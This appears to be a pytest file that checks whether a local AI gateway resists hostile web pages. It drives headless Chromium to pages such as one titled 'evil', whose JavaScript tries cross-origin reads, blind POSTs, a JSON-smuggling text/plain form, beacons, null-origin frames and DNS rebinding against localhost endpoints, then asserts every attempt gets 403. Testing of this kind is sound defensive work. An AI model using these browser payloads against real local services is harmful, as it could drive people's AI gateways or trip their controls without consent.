"""What web pages can do to a gateway, with a real browser: nothing, unless they are configured."""

import json
import os
import re
import signal
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.daemon.test_gateway import ask, port_of
from tests.support.home import Home
from tests.support.pages import Pages

pytestmark = [pytest.mark.daemon, pytest.mark.browser]

PATHS = ["/v1/models", "/health", "/v1/chat/completions", "/estop", "/"]
CHAT = json.dumps({"model": "mock", "messages": [{"role": "user", "content": "from a page"}]})
COMMON = """
const TARGETS = %(targets)s, PATHS = %(paths)s, CHAT = %(chat)s;
const told = {};
const sleep = ms => new Promise(done => setTimeout(done, ms));
async function attempt(name, act) {
  try { told[name] = await Promise.race([act(), sleep(%(patience_ms)d).then(() => "silence")]); }
  catch (error) { told[name] = "refused"; }
}
async function read(url, options) {
  const answer = await fetch(url, options);
  if (answer.type === "opaque") return "opaque";
  return "read " + answer.status + " " + (await answer.text()).slice(0, 60);
}
async function tell() { await fetch("/told", {method: "POST", body: JSON.stringify(told)}); }
"""
ATTACK = """<!doctype html><title>evil</title><body><script>
%(common)s
const body = CHAT, type = "Content-Type";
const plain = {[type]: "text/plain"}, json = {[type]: "application/json"};
const blind = {method: "POST", mode: "no-cors", headers: plain, body};
function framed(make) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    frame.onload = () => {
      try {
        const text = frame.contentDocument.body.innerText.slice(0, 60);
        if (text) done("read " + text);  // before its page comes, a frame is empty and ours
      } catch (error) { done("refused"); }
    };
    document.body.append(frame);
    make(frame);
  });
}
function loaded(element, url) {
  return new Promise(done => {
    element.onload = () => done("read"); element.onerror = () => done("refused");
    element.src = url; document.body.append(element);
  });
}
(async () => {
  for (const target of TARGETS) for (const path of PATHS) {
    const url = target + path, at = name => name + " " + url;
    await attempt(at("get"), () => read(url));
    await attempt(at("get with credentials"), () => read(url, {credentials: "include"}));
    await attempt(at("blind get"), () => read(url, {mode: "no-cors"}));
    await attempt(at("simple"), () => read(url, {method: "POST", headers: plain, body}));
    await attempt(at("blind"), () => read(url, blind));
    await attempt(at("preflight"), () => read(url, {method: "POST", headers: json, body}));
    await attempt(at("key"), () => read(url, {headers: {"Authorization": "Bearer x"}}));
    await attempt(at("delete"), () => read(url, {method: "DELETE"}));
    await attempt(at("image"), () => loaded(new Image(), url));
    await attempt(at("script"), () => loaded(document.createElement("script"), url));
    await attempt(at("frame"), () => framed(frame => { frame.src = url; }));
    await attempt(at("beacon"), async () => {
      navigator.sendBeacon(url, new Blob([body], {type: "text/plain"})); return "sent"; });
    await attempt(at("form"), () => framed(frame => {
      const form = document.createElement("form");
      Object.assign(form, {action: url, method: "POST", enctype: "text/plain", target: frame.name});
      const field = document.createElement("input");
      field.name = CHAT.slice(0, -1) + ',"x":"'; field.value = '"}';
      form.append(field); document.body.append(form); form.submit();
    }));
    await attempt(at("events"), () => new Promise(done => {
      const source = new EventSource(url);
      source.onmessage = source.onopen = () => { source.close(); done("read"); };
      source.onerror = () => { source.close(); done("refused"); };
    }));
    await attempt(at("null origin"), () => new Promise(done => {
      onmessage = event => done(event.data);
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts";
      frame.srcdoc = "<script>fetch(" + JSON.stringify(url) + ", {method: 'POST', body: "
        + JSON.stringify(CHAT) + "}).then(a => a.text())"
        + ".then(t => parent.postMessage('read ' + t, '*'))"
        + ".catch(() => parent.postMessage('refused', '*'))<" + "/script>";
      document.body.append(frame);
    }));
  }
  await tell();
})();
</script></body>"""
REBOUND = """<!doctype html><body><script>
%(common)s
(async () => {
  for (const path of PATHS.filter(path => path !== "/")) {
    await attempt("get " + path, () => read(path));
    await attempt("post " + path, () => read(path, {
      method: "POST", headers: {"Content-Type": "application/json"}, body: CHAT}));
    await attempt("keyed " + path, () => read(path, {headers: {"Authorization": "Bearer x"}}));
  }
  await tell();
})();
</script></body>"""
FRIEND = """<!doctype html><body><script>
%(common)s
(async () => {
  const url = TARGETS[0] + "/v1/nowhere";
  await attempt("get", () => read(url));
  await attempt("post", () => read(url, {
    method: "POST", headers: {"Content-Type": "application/json"}, body: CHAT}));
  await tell();
})();
</script></body>"""


def page_of(text: str, port: int) -> str:
    common = COMMON % {
        # Some attacks are never answered; where every answer is awaited, none is given up.
        "patience_ms": 8_000 if text is ATTACK else 60_000,
        "targets": json.dumps([f"http://127.0.0.1:{port}", f"http://localhost:{port}"]),
        "paths": json.dumps(PATHS),
        "chat": json.dumps(CHAT),
    }
    return text.replace("%(common)s", common)


@contextmanager
def browsing(folder: Path, url: str) -> Iterator[None]:
    """Let a real browser look at a page; every name that ends in .example is on this machine."""
    words = [
        *("chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        *("--disable-background-networking", "--disable-dev-shm-usage", "--disable-sync"),
        f"--user-data-dir={folder}",
        "--remote-debugging-port=0",  # stays until it is ended
        "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP friend.example 127.0.0.1, "
        "MAP rebound.example 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
        url,
    ]
    log = (folder.parent / "browser.log").open("w")
    process = subprocess.Popen(
        words, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True
    )
    log.close()
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def statuses_in(log: str) -> list[int]:
    return [int(found) for found in re.findall(r"a request was answered .*?status=(\d+)", log)]


def state_of(home: Home) -> dict[str, object]:
    report = json.loads(home.ctl("--no-start", "status", "--json").stdout)
    return {name: report[name] for name in ("estop", "conversations", "receipts", "turns_running")}


@pytest.fixture
def served(home: Home) -> Iterator[Home]:
    home.environ["CLAWD_LOG_LEVEL"] = "DEBUG"
    home.configure(tables="[channels.http]\nenabled = true\nport = 0")
    home.start()
    yield home


@pytest.mark.timeout(300)
def test_a_page_of_others_reads_nothing_and_makes_nothing_happen(
    served: Home, tmp_path: Path
) -> None:
    before, port = state_of(served), port_of(served)
    pages = Pages(("127.0.0.1", 0), page_of(ATTACK, port))
    try:
        with browsing(tmp_path / "profile", f"http://evil.example:{pages.port}/"):
            told = pages.told()
    finally:
        pages.close()
    assert len(told) == 15 * 2 * len(PATHS)
    # A sent beacon and an opaque answer tell a page nothing; that they did nothing is seen below.
    wrong = {name: text for name, text in told.items() if text not in {"refused", "opaque", "sent"}}
    assert not {name: text for name, text in wrong.items() if "silence" not in text}, wrong
    found = statuses_in(served.log())
    assert len(found) > 100
    assert set(found) == {403}
    assert state_of(served) == before
    # The same request from a program of the owner is let in.
    assert ask(served, "/v1/nowhere")[0] == 404


@pytest.mark.timeout(120)
def test_a_page_whose_name_is_rebound_to_the_gateway_reads_refusals_only(
    served: Home, tmp_path: Path
) -> None:
    before, port = state_of(served), port_of(served)
    pages = Pages(("127.0.0.2", port), page_of(REBOUND, port), behind=port)
    try:
        with browsing(tmp_path / "profile", f"http://rebound.example:{port}/"):
            told = pages.told()
    finally:
        pages.close()
    assert len(told) == 3 * (len(PATHS) - 1)
    assert not {name: text for name, text in told.items() if not text.startswith("read 403 ")}
    assert set(statuses_in(served.log())) == {403}
    assert state_of(served) == before


@pytest.mark.timeout(120)
def test_a_configured_page_reads_answers_so_these_tests_would_see_a_leak(
    home: Home, tmp_path: Path
) -> None:
    pages = Pages(("127.0.0.1", 0), "")
    origin = f"http://friend.example:{pages.port}"
    home.configure(tables=f'[channels.http]\nenabled = true\nport = 0\ncors_origins = ["{origin}"]')
    home.start()
    pages.page = page_of(FRIEND, port_of(home))
    try:
        with browsing(tmp_path / "profile", f"{origin}/"):
            told = pages.told()
    finally:
        pages.close()
    assert told.keys() == {"get", "post"}
    assert all(text.startswith("read 404 ") for text in told.values()), told
